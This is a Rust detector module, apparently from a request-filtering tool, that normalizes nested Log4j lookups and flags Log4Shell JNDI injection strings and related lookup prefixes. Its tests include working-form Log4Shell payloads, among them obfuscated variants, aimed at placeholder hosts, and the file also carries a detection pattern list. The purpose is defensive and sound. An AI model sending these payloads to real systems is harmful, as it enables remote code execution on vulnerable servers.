//! JNDI lookups (Log4Shell, CVE-2021-44228) in any value or header, including the nested-lookup
//! obfuscations (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`, `${env:X:-j}`).

/// Resolves the lookups that only spell letters: `${lower:x}`, `${upper:x}`, `${::-x}`,
/// `${anything:-x}`, innermost first.
fn collapse(s: &str) -> String {
    let mut cur = s.to_ascii_lowercase();
    for _ in 0..16 {
        let Some(open) = innermost(&cur) else { break };
        let Some(close_rel) = cur[open..].find('}') else { break };
        let close = open + close_rel;
        let inner = &cur[open + 2..close];
        let replacement = if let Some(v) = inner.strip_prefix("lower:").or_else(|| inner.strip_prefix("upper:")) {
            v.to_owned()
        } else if let Some(i) = inner.find(":-") {
            inner[i + 2..].to_owned()
        } else if inner.starts_with("jndi:") {
            // Keep the lookup itself visible, and stop.
            break;
        } else {
            inner.to_owned()
        };
        cur.replace_range(open..=close, &replacement);
    }
    cur
}

/// The innermost lookup that closes first: the last `${` before the first `}`. Linear.
fn innermost(s: &str) -> Option<usize> {
    let mut from = 0;
    loop {
        let close = from + s[from..].find('}')?;
        match s[..close].rfind("${") {
            Some(at) if at >= from && !s[at..].starts_with("${jndi:") => return Some(at),
            Some(at) if at >= from => from = close + 1,
            _ => from = close + 1,
        }
        if from >= s.len() {
            return None;
        }
    }
}

pub fn check(value: &str) -> Option<(&'static str, u32)> {
    let pos = memchr::memmem::find(value.as_bytes(), b"${")?;
    let _ = pos;
    let c = collapse(value);
    if c.contains("${jndi:") || c.contains("jndi:ldap") || c.contains("jndi:rmi") || c.contains("jndi:dns") {
        return Some(("jndi_lookup", 10));
    }
    let lower = value.to_ascii_lowercase();
    if lower.contains("${lower:")
        || lower.contains("${upper:")
        || lower.contains("${::-")
        || (lower.contains("${env:") && lower.contains(":-"))
    {
        return Some(("lookup_obfuscation", 8));
    }
    if [
        "${ctx:",
        "${sys:",
        "${java:",
        "${main:",
        "${date:",
        "${base64:",
        "${k8s:",
        "${docker:",
        "${spring:",
        "${bundle:",
        "${log4j:",
        "${web:",
        "${sd:",
        "${event:",
        "${map:",
        "${marker:",
        "${jvmrunargs:",
    ]
    .iter()
    .any(|k| lower.contains(k))
    {
        return Some(("log4j_lookup", 8));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn log4shell() {
        for s in [
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:ldap://x/}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}",
            "${jndi:dns://x}",
        ] {
            assert!(check(s).is_some(), "missed: {s}");
        }
        assert!(check("price ${amount}").is_none());
        assert!(check("plain").is_none());
    }
}
